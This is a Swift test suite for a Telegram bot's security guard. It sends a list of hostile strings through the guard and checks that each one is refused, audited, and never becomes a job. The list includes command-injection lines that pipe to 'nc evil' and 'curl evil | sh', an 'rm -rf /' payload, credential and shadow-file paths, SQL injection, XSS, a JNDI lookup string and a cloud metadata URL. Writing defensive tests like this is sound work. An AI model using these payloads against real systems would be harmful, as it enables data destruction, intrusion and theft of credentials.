import AccessControl
import Foundation
import Guard
import Ledger
import Messages
import PeerKeys
import Settings
import Testing

/// A corpus of hostile input through the guard's front door: every case is committed (acknowledged, so Telegram's
/// offset moves on and nothing is lost), refused with the reason expected for it, audited, and the guard still works
/// afterwards. (Paths and filenames have their own 734-case corpus in `Tests/ValidationTests/Corpus/`, replayed by the validator tests.)
@Suite struct BadInputCorpusTests {
    /// Injection and oddity strings, each tried in several places.
    static let hostile: [String] = [
        "../../etc/passwd", "..\\..\\windows\\system32", "%2e%2e%2f%2e%2e%2f", "%252e%252e%252f", "\u{FF0E}\u{FF0E}\u{FF0F}",
        "~/.ssh/id_rsa", "$HOME/.aws/credentials", "${IFS}cat${IFS}/etc/shadow", "$(id)", "`id`", "; rm -rf /",
        "| nc evil 1234", "&& curl evil | sh", "> /etc/hosts", "< /dev/zero", "a\u{0}b", "line\nbreak\r\n", "\u{202E}gnp.exe",
        "' OR '1'='1", "\"; DROP TABLE jobs; --", "1; DELETE FROM audit", "<script>alert(1)</script>", "<b>bold</b>&amp;",
        "{{7*7}}", "${jndi:ldap://evil/a}", "%n%n%n%n", "\u{1F600}\u{1F600}", "\u{0301}\u{0301}\u{0301}", "\u{FEFF}",
        "A\u{7}\u{8}\u{1B}[31m", String(repeating: "A", count: 300), String(repeating: "/", count: 70),
        "gh_deadbeef_AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", "b:", "b:AAAAAAAA", "b:../../x", "0", "-1",
        "99999999999999999999", "0x10", "1e9", "12345", "/etc/shadow", "C:\\Windows", "..;/", "file:///etc/passwd",
        "http://169.254.169.254/latest/meta-data", "\u{2024}\u{2024}/\u{2215}", "%00", "AAAA%0d%0aSet-Cookie: x",
    ]

    struct Case: CustomStringConvertible {
        var name: String
        var update: (Int64, Int64) -> InboundUpdate
        var event: String
        var detail: String?
        var description: String { name }
    }

    static func message(_ id: Int64, _ user: Int64, _ text: String?, chat: String = "private", bot: Bool = false) -> InboundUpdate {
        InboundUpdate(
            updateId: id, receivedAt: 1, kind: .message, sender: .init(id: user, isBot: bot), chat: .init(id: user, type: chat),
            messageId: id, text: text)
    }

    static func press(_ id: Int64, _ user: Int64, _ data: String?) -> InboundUpdate {
        InboundUpdate(
            updateId: id, receivedAt: 1, kind: .callbackQuery, sender: .init(id: user), chat: .init(id: user, type: "private"),
            messageId: 7, callback: .init(id: "cb\(id)", data: data, messageId: 7))
    }

    /// Built per case: a fresh person for each, so lockouts and anomaly blocks of one case do not change another.
    static var cases: [Case] {
        var cases: [Case] = []
        for (index, text) in hostile.enumerated() {
            // Combining marks or a BOM join the space before them into one whitespace character: no argument.
            let blank = ("/x " + text).split(whereSeparator: \.isWhitespace).count == 1
            cases.append(Case(name: "stranger prompt #\(index)", update: { id, _ in message(id, 9_000_000 + id, text) },
                              event: "access.denied"))
            cases.append(Case(name: "/allow arg #\(index)", update: { id, _ in message(id, 1, "/allow \(text)") },
                              event: Int64(text).map { $0 > 0 } == true ? "admin.allow" : "command.invalid"))
            cases.append(Case(name: "/verbose arg #\(index)", update: { id, _ in message(id, 100, "/verbose \(text)") },
                              event: text == "0" || blank ? "command" : "command.invalid"))
            cases.append(Case(name: "forged button #\(index)", update: { id, _ in press(id, 100, text) },
                              event: "security.violation"))
            cases.append(Case(name: "forged token #\(index)", update: { id, _ in message(id, 8_000_000 + id, "/auth \(text)") },
                              event: blank ? "command.invalid" : "auth.failure"))
            cases.append(Case(name: "blocked person #\(index)", update: { id, _ in message(id, 666, text) },
                              event: "access.denied", detail: "blocked user"))
        }
        let oversized = String(repeating: "x", count: IntakePolicy.maxPromptLength + 1)
        cases += [
            Case(name: "oversized prompt", update: { id, _ in message(id, 100, oversized) }, event: "request.refused"),
            Case(name: "oversized button data", update: { id, _ in press(id, 100, "b:" + String(repeating: "a", count: 80)) },
                 event: "security.violation"),
            Case(name: "empty button data", update: { id, _ in press(id, 100, "") }, event: "security.violation"),
            Case(name: "missing button data", update: { id, _ in press(id, 100, nil) }, event: "security.violation"),
            Case(name: "message without text", update: { id, _ in message(id, 100, nil) }, event: "request.refused"),
            Case(name: "whitespace only", update: { id, _ in message(id, 100, " \n\t ") }, event: "request.refused"),
            Case(name: "from a bot", update: { id, _ in message(id, 100, "hi", bot: true) }, event: "update.ignored"),
            Case(name: "group chat", update: { id, _ in message(id, 100, "hi", chat: "supergroup") }, event: "update.ignored"),
            Case(name: "no sender", update: { id, _ in
                InboundUpdate(updateId: id, receivedAt: 1, kind: .message, chat: .init(id: 5, type: "private"), text: "hi")
            }, event: "update.ignored"),
            Case(name: "unsupported kind", update: { id, _ in InboundUpdate(updateId: id, receivedAt: 1, kind: .unsupported, rawKind: "poll") },
                 event: "update.ignored"),
            Case(name: "edited message", update: { id, _ in
                InboundUpdate(updateId: id, receivedAt: 1, kind: .editedMessage, sender: .init(id: 100),
                              chat: .init(id: 100, type: "private"), messageId: 1, text: "rm -rf /")
            }, event: "update.ignored"),
            Case(name: "negative user id", update: { id, _ in message(id, -5, "hi") }, event: "access.denied"),
            Case(name: "admin command by non-admin", update: { id, _ in message(id, 100, "/users") }, event: "command.refused"),
            Case(name: "unknown command", update: { id, _ in message(id, 100, "/sudo make me a sandwich") }, event: "command.unknown"),
            Case(name: "token from someone not signing in", update: { id, _ in message(id, 100, "/auth") }, event: "auth.unneeded"),
        ]
        return cases
    }

    @Test func everyHostileInputIsCommittedRefusedWithItsReasonAndAudited() async throws {
        let guardian = GuardHarness(allowed: [100], admins: [1]) { configuration in
            configuration.access.tokenSecret = Secret("corpus-token-secret-0123456789abcdef")
            configuration.access.rateLimit = RateLimit(requests: 100_000, windowSeconds: 1, burst: 100_000)
            configuration.access.anomaly = AnomalyPolicy(violationLimit: 100_000, requestLimit: 100_000)
        }
        try await guardian.say("/block 666", from: 1, updateId: 1)
        let corpus = Self.cases
        #expect(corpus.count >= 300)
        var updateId: Int64 = 100
        for testCase in corpus {
            updateId += 1
            let update = testCase.update(updateId, 0)
            let before = try guardian.ledger.audit(fromSeq: 1, limit: 1_000_000).count
            let out = try await guardian.send(update, on: .intake, from: guardian.ingress)
            let ack = out.messages(UpdateAck.self).first?.message
            #expect(ack == UpdateAck(updateId: updateId, outcome: .committed), "\(testCase): not committed")
            let added = try guardian.ledger.audit(fromSeq: Int64(before + 1), limit: 100)
            #expect(added.contains { $0.event == testCase.event }, "\(testCase): expected \(testCase.event), audited \(added.map(\.event))")
            if let detail = testCase.detail {
                #expect(added.contains { $0.text.contains(detail) }, "\(testCase): no \(detail)")
            }
        }
        #expect(try guardian.ledger.jobs(in: Set(JobStatus.allCases)).isEmpty, "nothing hostile became a job")
        try await guardian.say("a real request", from: 100, updateId: updateId + 1)
        #expect(try guardian.queuedJobs(of: 100).count == 1, "the guard still works")
        #expect(AuditChain.verify(try guardian.ledger.audit(fromSeq: 1, limit: 1_000_000), after: AuditChain.genesis, firstSeq: 1) == nil)
    }

    @Test func malformedFramesOnEveryLinkAreDroppedWithoutCrashing() async throws {
        let guardian = GuardHarness(allowed: [100])
        var generator = SystemRandomNumberGenerator()
        for round in 0..<200 {
            let frameCount = round % 5
            let frames = (0..<frameCount).map { _ in Data((0..<Int.random(in: 0...64, using: &generator)).map { _ in UInt8.random(in: 0...255, using: &generator) }) }
            let versioned = round % 2 == 0 ? frames : [Data("GH1".utf8), Data("intake.update".utf8)] + frames.prefix(1)
            for link in [GuardLink.intake, .work, .delivery] {
                // At most a heartbeat telling an unknown peer to register; never anything else.
                let out = await guardian.core.receive(link: link, peer: Data("p".utf8), frames: versioned)
                #expect(out.count == out.messages(Heartbeat.self).count, "round \(round) on \(link)")
            }
        }
        try await guardian.say("still fine", from: 100, updateId: 1)
        #expect(try guardian.queuedJobs(of: 100).count == 1)
    }
}
